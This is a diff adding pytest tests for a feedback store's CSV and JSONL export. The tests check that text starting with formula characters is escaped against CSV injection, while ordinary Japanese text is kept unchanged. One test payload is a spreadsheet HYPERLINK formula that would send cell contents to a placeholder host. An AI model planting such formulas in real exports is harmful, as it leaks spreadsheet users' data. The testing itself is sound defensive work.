@@ -109,3 +109,31 @@ def test_concurrent_writers(tmp_path: Path) -> None:
     assert len(store.list_feedback()) == 20
     with sqlite3.connect(store.path) as conn:  # a plain SQLite file other tools can read
         assert conn.execute("SELECT COUNT(*) FROM feedback WHERE rating = 1").fetchone()[0] == 8
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_export_csv_escapes_formulas_in_user_text(tmp_path: Path, start: str) -> None:
+    """CSV injection (OWASP): text a spreadsheet would run as a formula starts with an apostrophe."""
+    store = FeedbackStore(tmp_path)
+    formula = f'{start}HYPERLINK("http://example.invalid/?d="&A1,"詳細")'
+    store.record(question=formula, answer_text=f"{start}1+1", citations=[{"n": 1, "title": formula}], rating=-1,
+                 comment=formula, standalone_question=formula)
+    rows = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"), newline="")))
+    header, row = rows[0], dict(zip(rows[0], rows[1]))
+    assert header[3:8] == ["コメント", "質問", "検索に使った質問", "回答", "出典"]
+    for column in ("質問", "検索に使った質問"):
+        assert row[column] == "'" + formula, column
+    comment = formula.strip()  # comments are stored stripped: a leading tab or CR is gone already
+    assert row["コメント"] == ("'" + comment if comment[0] in "=+-@" else comment)
+    assert row["回答"] == f"'{start}1+1"
+    assert row["出典"].startswith("[1] ")  # the citation cell starts with its number; nothing to escape
+    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in rows[1])
+    # JSONL is data, not a spreadsheet: kept exactly.
+    assert json.loads(store.export_jsonl())["question"] == formula
+
+
+def test_export_csv_keeps_ordinary_text(tmp_path: Path) -> None:
+    store = FeedbackStore(tmp_path)
+    store.record("参加人数は？", "85人 [1]。", [], rating=1, comment="マイナス-1ではなく正しい")
+    row = list(csv.reader(io.StringIO(store.export_csv().decode("utf-8-sig"))))[1]
+    assert row[3:5] == ["マイナス-1ではなく正しい", "参加人数は？"]
